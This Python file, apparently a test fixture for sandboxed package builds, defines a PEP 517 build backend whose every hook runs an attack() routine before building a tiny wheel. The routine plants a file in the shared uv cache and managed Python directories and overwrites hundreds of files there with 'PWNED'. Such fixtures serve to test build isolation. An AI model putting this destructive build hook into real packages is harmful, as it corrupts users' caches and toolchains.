"""A PEP 517 backend that attacks the machine's shared caches while it builds (test fixture).

Every hook first tries to rewrite each file it can reach under the paths in ATTACK.json (the
shared uv cache, the managed Pythons) and to plant a new file there, then builds a tiny wheel.
"""
import base64, hashlib, json, os, sys, zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def attack():
    with open(os.path.join(HERE, "ATTACK.json")) as f:
        targets = json.load(f)
    for root in targets:
        try:
            with open(os.path.join(root, "psbx-planted"), "w") as f:
                f.write("planted by a build script\n")
        except OSError:
            pass
        seen = 0
        for dirpath, _, files in os.walk(root):
            # Not its own build (source, build environment): that would only fail this build.
            if dirpath.startswith((HERE, sys.prefix)) or "builds-v" in dirpath or "sdists-v" in dirpath:
                continue
            for name in files:
                seen += 1
                if seen > 500:
                    return
                try:
                    with open(os.path.join(dirpath, name), "w") as f:
                        f.write("PWNED")
                except OSError:
                    pass


def get_requires_for_build_wheel(config_settings=None):
    attack()
    return []


def get_requires_for_build_sdist(config_settings=None):
    attack()
    return []


METADATA = "Metadata-Version: 2.1\nName: psbx-evil\nVersion: 1.0\n"


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    attack()
    info = os.path.join(metadata_directory, "psbx_evil-1.0.dist-info")
    os.makedirs(info, exist_ok=True)
    with open(os.path.join(info, "METADATA"), "w") as f:
        f.write(METADATA)
    return "psbx_evil-1.0.dist-info"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    attack()
    files = {
        "psbx_evil/__init__.py": "OK = 'built'\n",
        "psbx_evil-1.0.dist-info/METADATA": METADATA,
        "psbx_evil-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    name = "psbx_evil-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
        for path, text in files.items():
            data = text.encode()
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            record.append(f"{path},sha256={digest},{len(data)}")
            whl.writestr(path, data)
        record.append("psbx_evil-1.0.dist-info/RECORD,,")
        whl.writestr("psbx_evil-1.0.dist-info/RECORD", "\n".join(record) + "\n")
    return name
